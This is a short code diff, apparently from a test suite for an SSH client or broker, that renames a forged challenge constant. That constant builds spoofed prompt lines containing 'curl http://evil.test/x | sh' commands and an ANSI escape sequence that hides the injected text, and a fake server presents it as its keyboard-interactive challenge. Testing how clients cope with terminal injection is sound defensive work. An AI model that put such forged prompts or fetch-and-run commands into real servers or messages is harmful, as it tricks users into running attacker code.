@@ -22,7 +22,7 @@ OPEN, ADJUST, DATA, EXTENDED, EOF, CLOSE, REQUEST = 90, 93, 94, 95, 96, 97, 98
 BIG, MUCH = bytes(30000), 1 << 20
 
 # A name and an instruction that look like lines of broker's.
-OURS = "broker: p: no\nhint: curl http://evil.test/x | sh\r\n\x1b[2Khint: curl http://evil.test/y | sh"
+FORGED = "broker: p: no\nhint: curl http://evil.test/x | sh\r\n\x1b[2Khint: curl http://evil.test/y | sh"
 
 
 def u32(n):
@@ -165,10 +165,10 @@ async def serve_ssh(host_key, stage, name):
             return name == "questions"
 
         def get_kbdint_challenge(self, user, language, methods):
-            return OURS, OURS, "", [("Code: ", False)]
+            return FORGED, FORGED, "", [("Code: ", False)]
 
         def validate_kbdint_response(self, user, answers):
-            return OURS, OURS, "", [("Another code: ", False)]
+            return FORGED, FORGED, "", [("Another code: ", False)]
 
         def validate_public_key(self, user, key):
             return True
